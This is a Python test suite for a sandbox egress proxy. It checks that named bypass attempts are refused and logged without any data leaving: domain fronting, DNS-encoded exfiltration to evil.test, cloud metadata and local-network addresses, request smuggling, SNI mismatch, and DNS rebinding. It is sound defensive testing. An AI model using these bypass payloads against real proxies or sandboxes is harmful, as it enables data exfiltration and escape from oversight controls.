"""Every way round the proxy that is known, by name: each is refused, recorded, and nothing of it arrives anywhere."""

from __future__ import annotations

import pytest

from arrowslit.policy.egress import Refusal
from arrowslit.sandbox.egress.attempt import Attempt, Verdict
from tests.sandbox.egress.kit import HOST, LOOPBACK, Gate, Names, gate, hello, origin, private

# `{port}` is that of a server which would answer, and which the rules allow as allowed.test alone. Case ids are those
# of the security cases.


def get(host: str, named: str | None = None, *more: str) -> str:
    return "\r\n".join((f"GET http://{host}/ HTTP/1.1", f"Host: {named or host}", *more, "", ""))


def connect(host: str) -> str:
    return f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n"


def post(*fields: str, body: str = "") -> str:
    return "\r\n".join((f"POST http://{HOST}:{{port}}/ HTTP/1.1", f"Host: {HOST}:{{port}}", *fields, "", body))


HOSTS = {  # name: (request, reason)
    "SBX-02 another domain over http": (get("evil.test:{port}"), Refusal.HOST_NOT_ALLOWED),
    "SBX-02 another domain over https": (connect("evil.test:{port}"), Refusal.HOST_NOT_ALLOWED),
    "SBX-02 another port of an allowed domain": (connect("allowed.test:22"), Refusal.PORT_NOT_ALLOWED),
    "another port of an allowed domain over http": (get("allowed.test:22"), Refusal.PORT_NOT_ALLOWED),
    "SBX-02 CONNECT to an IPv4 address": (connect("127.0.0.1:{port}"), Refusal.LITERAL_NOT_ALLOWED),
    "IPv4 address over http": (get("127.0.0.1:{port}"), Refusal.LITERAL_NOT_ALLOWED),
    "SBX-01 IPv6 address": (connect("[::1]:{port}"), Refusal.LITERAL_NOT_ALLOWED),
    "IPv6-mapped address": (connect("[::ffff:127.0.0.1]:{port}"), Refusal.HOST_INVALID),
    "decimal address": (connect("2130706433:{port}"), Refusal.HOST_INVALID),
    "hexadecimal address": (connect("0x7f000001:{port}"), Refusal.HOST_INVALID),
    "octal address": (get("0177.0.0.1:{port}"), Refusal.HOST_INVALID),
    "short address": (get("127.1:{port}"), Refusal.HOST_INVALID),
    "SBX-01 SBX-10 metadata address": (get("169.254.169.254"), Refusal.LITERAL_NOT_ALLOWED),
    "SBX-01 a host of the local network": (connect("192.168.1.1:443"), Refusal.LITERAL_NOT_ALLOWED),
    "SBX-01 the gateway itself": (connect("localhost:{port}"), Refusal.HOST_NOT_ALLOWED),
    "SBX-02 a name that carries data (DNS)": (connect("c2VjcmV0.evil.test:443"), Refusal.HOST_NOT_ALLOWED),
    "trailing dot": (connect("allowed.test.:{port}"), Refusal.HOST_INVALID),
    "suffix trick": (connect("allowed.test.evil.test:{port}"), Refusal.HOST_NOT_ALLOWED),
    "userinfo@ trick": (get("allowed.test@evil.test:{port}", "allowed.test:{port}"), Refusal.HOST_INVALID),
    "userinfo@ trick in CONNECT": (connect("allowed.test:{port}@evil.test:{port}"), Refusal.HOST_INVALID),
    "backslash trick": (get("evil.test:{port}\\@allowed.test:{port}"), Refusal.HOST_INVALID),
    "fragment trick": (get("evil.test:{port}#@allowed.test:{port}"), Refusal.REQUEST_INVALID),
    "SBX-02 Host is not that of the URL (domain fronting)": (
        get("allowed.test:{port}", "evil.test:{port}"),
        Refusal.HOST_MISMATCH,
    ),
    "port of Host is not that of the URL": (get("allowed.test:{port}", "allowed.test:1"), Refusal.HOST_MISMATCH),
    "two Hosts": (get("allowed.test:{port}", None, "Host: evil.test"), Refusal.HOST_MISMATCH),
    "no Host": ("GET http://allowed.test:{port}/ HTTP/1.1\r\n\r\n", Refusal.HOST_MISMATCH),
    "origin-form": ("GET / HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n", Refusal.REQUEST_INVALID),
    "asterisk-form": ("OPTIONS * HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n", Refusal.REQUEST_INVALID),
    "https without CONNECT": (get("x").replace("http://x", "https://allowed.test"), Refusal.REQUEST_INVALID),
    "ftp": (get("x").replace("http://x", "ftp://allowed.test"), Refusal.REQUEST_INVALID),
    "file": (get("x").replace("http://x", "file:///etc/passwd"), Refusal.REQUEST_INVALID),
    "CONNECT without a port": (connect("allowed.test"), Refusal.HOST_INVALID),
    "CONNECT to port 0": (connect("allowed.test:0"), Refusal.HOST_INVALID),
    "CONNECT to port 65536": (connect("allowed.test:65536"), Refusal.HOST_INVALID),
    "CONNECT to a port that wraps": (connect("allowed.test:65616"), Refusal.HOST_INVALID),
    "CONNECT with a URL": (connect("http://allowed.test:443"), Refusal.HOST_INVALID),
}

SMUGGLED = "GET http://evil.test:{port}/ HTTP/1.1\r\nHost: evil.test:{port}\r\n\r\n"
SMUGGLING = {
    "Content-Length and Transfer-Encoding": (
        post("Content-Length: 4", "Transfer-Encoding: chunked", body="0\r\n\r\n" + SMUGGLED),
        Refusal.LENGTH_AMBIGUOUS,
    ),
    "chunked": (post("Transfer-Encoding: chunked", body="0\r\n\r\n" + SMUGGLED), Refusal.LENGTH_REQUIRED),
    "Transfer-Encoding in another spelling": (post("Transfer-Encoding: xchunked"), Refusal.LENGTH_REQUIRED),
    "Transfer-Encoding with a space before the colon": (post("Transfer-Encoding : chunked"), Refusal.REQUEST_INVALID),
    "two Content-Lengths": (post("Content-Length: 0", "Content-Length: 5"), Refusal.LENGTH_AMBIGUOUS),
    "two equal Content-Lengths": (post("Content-Length: 0", "Content-Length: 0"), Refusal.LENGTH_AMBIGUOUS),
    "a list of Content-Lengths": (post("Content-Length: 0, 5"), Refusal.LENGTH_AMBIGUOUS),
    "Content-Length with a sign": (post("Content-Length: +0"), Refusal.LENGTH_AMBIGUOUS),
    "hexadecimal Content-Length": (post("Content-Length: 0x5"), Refusal.LENGTH_AMBIGUOUS),
    "empty Content-Length": (post("Content-Length:"), Refusal.LENGTH_AMBIGUOUS),
    "Content-Length named in Connection": (
        post("Content-Length: 50", "Connection: content-length", body="x" * 50),
        Refusal.LENGTH_AMBIGUOUS,
    ),
    "Host named in Connection": (post("Connection: close, Host"), Refusal.LENGTH_AMBIGUOUS),
    "folded field": (post("X-A: b\r\n c: d"), Refusal.REQUEST_INVALID),
    "bare LF in a field": (post("X-A: b\nTransfer-Encoding: chunked"), Refusal.REQUEST_INVALID),
    "bare CR in a field": (post("X-A: b\rTransfer-Encoding: chunked"), Refusal.REQUEST_INVALID),
    "NUL in a field": (post("X-A: b\0c"), Refusal.REQUEST_INVALID),
    "field without a colon": (post("X-A"), Refusal.REQUEST_INVALID),
    "space in the request target": (get("allowed.test:{port}").replace("/ ", "/a b "), Refusal.REQUEST_INVALID),
    "HTTP/2 by prior knowledge": ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", Refusal.REQUEST_INVALID),
    "HTTP/0.9": ("GET http://allowed.test:{port}/\r\n\r\n", Refusal.REQUEST_INVALID),
    "too many fields": (post(*(f"X-{number}: 1" for number in range(101))), Refusal.REQUEST_TOO_LARGE),
    "too long a head": (post("X-A: " + "a" * 16384), Refusal.REQUEST_TOO_LARGE),
    "SOCKS5": ("\x05\x01\x00", Refusal.NOT_HTTP),
    "SOCKS4": ("\x04\x01\x00\x50\x7f\x00\x00\x01\x00", Refusal.NOT_HTTP),
    "TLS to the proxy itself": ("\x16\x03\x01\x02\x00", Refusal.NOT_HTTP),
}

WAYS = HOSTS | SMUGGLING


@pytest.mark.promise("P13")
@pytest.mark.parametrize("name", WAYS)
async def test_h10_a_way_round_is_refused(name: str) -> None:
    request, code = WAYS[name]
    async with origin() as server, gate(private(server.port)) as at:
        attempt = await at.refused(request.replace("{port}", str(server.port)).encode("latin-1"))

    assert (attempt.verdict, attempt.code) == (Verdict.DENIED, code)
    assert (attempt.bytes_out, attempt.bytes_in) == (0, 0)
    assert server.received == []
    assert set(at.names.asked) <= {HOST}  # nobody hears of a name that is not allowed


async def tunnel(at: Gate, port: int, inside: bytes) -> tuple[bytes, Attempt]:
    """What is answered to `inside` in a tunnel to the allowed host, and what is recorded."""
    answer = await at.say(connect(f"{HOST}:{port}").encode() + inside)
    established, _, rest = answer.partition(b"\r\n\r\n")
    assert established.startswith(b"HTTP/1.1 200 ")
    return rest, await at.attempt()


INSIDE = {
    "SBX-02 SNI is not the host": (hello("evil.test"), Refusal.SNI_MISMATCH),
    "SNI with a trailing dot": (hello("allowed.test").replace(b"allowed.test", b"allowed.tes."), Refusal.SNI_MISMATCH),
    "SNI with a NUL in it": (hello("allowed.test").replace(b"allowed.test", b"allowed\0test"), Refusal.SNI_MISMATCH),
    "no SNI": (hello(None), Refusal.SNI_MISSING),
    "plain HTTP inside": (b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", Refusal.NOT_TLS),
    "SSH inside": (b"SSH-2.0-OpenSSH_9\r\n", Refusal.NOT_TLS),
    "SSL 2 hello inside": (b"\x80\x2e\x01\x03\x01" + bytes(64), Refusal.NOT_TLS),
    "TLS application data first": (b"\x17\x03\x03\x00\x04data", Refusal.NOT_TLS),
    "TLS alert first": (b"\x15\x03\x03\x00\x02\x01\x00", Refusal.NOT_TLS),
    "a server's hello": (b"\x16\x03\x03\x00\x04\x02\x00\x00\x00", Refusal.NOT_TLS),
    "a hello that never ends": (b"\x16\x03\x01\x40\x00\x01\x7f\xff\xff" + bytes(16381), Refusal.NOT_TLS),
}


@pytest.mark.promise("P13")
@pytest.mark.parametrize("name", INSIDE)
async def test_h10_a_way_round_inside_a_tunnel_is_refused(name: str) -> None:
    inside, code = INSIDE[name]
    async with origin(stubborn=True) as server, gate(private(server.port)) as at:
        answer, attempt = await tunnel(at, server.port, inside)

    assert answer == b"\x15\x03\x01\x00\x02\x02\x70"  # a TLS alert: unrecognized_name
    assert (attempt.host, attempt.verdict, attempt.code) == (HOST, Verdict.DENIED, code)
    assert (attempt.bytes_out, attempt.bytes_in) == (0, 0)
    assert [bytes(each) for each in server.received] in ([], [b""])


@pytest.mark.promise("P13")
async def test_a_second_request_to_another_host_on_the_same_connection_goes_nowhere() -> None:
    async with origin(stubborn=True) as server, gate(private(server.port)) as at:
        reader, writer = await at.open()
        writer.write(get(f"{HOST}:{server.port}").encode())
        assert (await reader.readuntil(b"ok")).startswith(b"HTTP/1.1 200 OK")
        writer.write(get(f"evil.test:{server.port}").encode())
        with pytest.raises(ConnectionError):
            await reader.read()
            raise ConnectionResetError  # closed in the ordinary way is as good
        first, second = await at.attempt(), await at.attempt()
        writer.close()

    assert (first.host, first.code) == (HOST, Refusal.SECOND_REQUEST)
    assert (second.host, second.verdict, second.code) == ("evil.test", Verdict.DENIED, Refusal.SECOND_REQUEST)
    assert len(server.received) == 1
    assert b"evil" not in server.received[0]


@pytest.mark.promise("P13")
async def test_a_second_request_after_the_server_has_left_is_recorded_too() -> None:
    async with origin() as server, gate(private(server.port)) as at:
        reader, writer = await at.open()
        writer.write(get(f"{HOST}:{server.port}").encode())
        assert (await reader.read()).endswith(b"ok")
        writer.write(get("evil.test").encode())
        first, second = await at.attempt(), await at.attempt()
        writer.close()

    assert (first.host, first.verdict) == (HOST, Verdict.ALLOWED)
    assert (second.host, second.verdict, second.code) == ("evil.test", Verdict.DENIED, Refusal.SECOND_REQUEST)


@pytest.mark.promise("P13")
async def test_a_request_hidden_behind_a_body_goes_nowhere() -> None:
    async with origin(stubborn=True) as server, gate(private(server.port)) as at:
        hidden = SMUGGLED.replace("{port}", str(server.port))
        await at.say(post("Content-Length: 4", body="\r\n\r\n" + hidden).replace("{port}", str(server.port)).encode())
        first, second = await at.attempt(), await at.attempt()

    assert (first.verdict, first.code, second.host) == (Verdict.CUT, Refusal.SECOND_REQUEST, "evil.test")
    assert b"evil" not in b"".join(server.received)


@pytest.mark.promise("P13")
async def test_upgrade_and_what_is_for_the_next_hop_are_left_out() -> None:
    fields = (
        "Connection: Upgrade, HTTP2-Settings, X-Mine", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
        "X-Mine: 1", "Proxy-Authorization: Basic c2VjcmV0", "Proxy-Connection: keep-alive", "Keep-Alive: 9", "TE: x",
        "Trailer: X", "X-Yours: 2",
    )  # fmt: skip
    async with origin() as server, gate(private(server.port)) as at:
        await at.say(get(f"ALLOWED.test:{server.port}", None, *fields).encode())
        await at.attempt()

    assert bytes(server.received[0]).split(b"\r\n") == [
        b"GET / HTTP/1.1", b"host: allowed.test:%d" % server.port, b"x-yours: 2", b"connection: close", b"", b"",
    ]  # fmt: skip


@pytest.mark.promise("P13")
async def test_a_redirect_to_another_host_is_passed_on_and_refused_when_followed() -> None:
    answer = b"HTTP/1.1 302 Found\r\nlocation: http://evil.test/\r\ncontent-length: 0\r\n\r\n"
    async with origin(answer=answer) as server, gate(private(server.port)) as at:
        assert b"302 Found" in await at.say(get(f"{HOST}:{server.port}").encode())
        assert (await at.attempt()).verdict is Verdict.ALLOWED
        assert (await at.refused(get("evil.test").encode())).code is Refusal.HOST_NOT_ALLOWED


# ---------------------------------------------------------------- names that lead elsewhere


@pytest.mark.promise("P13")
@pytest.mark.parametrize("address", ["127.0.0.1", "10.1.2.3", "169.254.169.254", "::1", "::ffff:127.0.0.1", "0.0.0.0"])
async def test_an_allowed_name_that_leads_inside_is_refused(address: str) -> None:
    names = Names({HOST: [["93.184.215.14", address]]})
    async with origin() as server, gate([f"{HOST}:{server.port}"], names=names) as at:
        attempt = await at.refused(connect(f"{HOST}:{server.port}").encode())

    assert (attempt.code, attempt.address) == (Refusal.ADDRESS_NOT_ALLOWED, address)
    assert server.received == []


@pytest.mark.promise("P13")
async def test_a_name_that_is_rebound_between_check_and_connection_gains_nothing() -> None:
    names = Names({HOST: [["127.0.0.1"], ["127.0.0.2"]]})
    async with (
        origin() as server,
        origin(host="127.0.0.2", port=server.port) as other,
        gate(private(server.port), names=names) as at,
    ):
        assert b"200 OK" in await at.say(get(f"{HOST}:{server.port}").encode())
        attempt = await at.attempt()

    assert attempt.address == "127.0.0.1"
    assert at.names.asked == [HOST]  # once: what was checked is what was connected to
    assert (len(server.received), other.received) == (1, [])


@pytest.mark.promise("P13")
async def test_a_name_that_is_rebound_between_two_attempts_is_checked_again() -> None:
    names = Names({HOST: [["127.0.0.1"], ["169.254.169.254"]]})
    async with origin() as server, gate(private(server.port, f"*.{HOST[8:]}"), names=names) as at:
        assert b"200 OK" in await at.say(get(f"{HOST}:{server.port}").encode())
        assert (await at.attempt()).verdict is Verdict.ALLOWED
        attempt = await at.refused(get(f"{HOST}:{server.port}").encode())

    assert (attempt.code, attempt.address) == (Refusal.ADDRESS_NOT_ALLOWED, "169.254.169.254")


async def test_an_allowed_address_needs_no_name_and_no_sni() -> None:
    async with origin(stubborn=True) as server, gate(private(server.port, "127.0.0.1")) as at:
        reader, writer = await at.open()
        begun = hello(None)
        writer.write(connect(f"127.0.0.1:{server.port}").encode() + begun)
        await reader.readuntil(b"\r\n\r\n")
        writer.close()
        attempt = await at.attempt()

    assert (attempt.bytes_out, at.names.asked) == (len(begun), [])


async def test_without_rules_everything_is_refused_and_recorded() -> None:
    async with gate([], names=Names(LOOPBACK)) as at:
        attempt = await at.refused(connect(f"{HOST}:443").encode())

    assert (attempt.host, attempt.port, attempt.code) == (HOST, 443, Refusal.HOST_NOT_ALLOWED)
    assert at.names.asked == []
